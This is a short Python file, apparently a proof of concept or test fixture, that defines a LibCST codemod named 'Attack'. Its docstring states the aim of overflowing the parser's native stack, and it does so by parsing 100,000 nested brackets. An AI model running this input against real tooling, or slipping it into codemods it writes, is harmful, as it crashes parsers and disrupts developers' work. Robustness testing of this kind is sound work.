"""Overflow the stack of LibCST's parser, which recurses in native code, by brackets."""

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Nest."

    def transform_module_impl(self, tree):
        cst.parse_expression("(" * 100_000 + ")" * 100_000)
        return tree
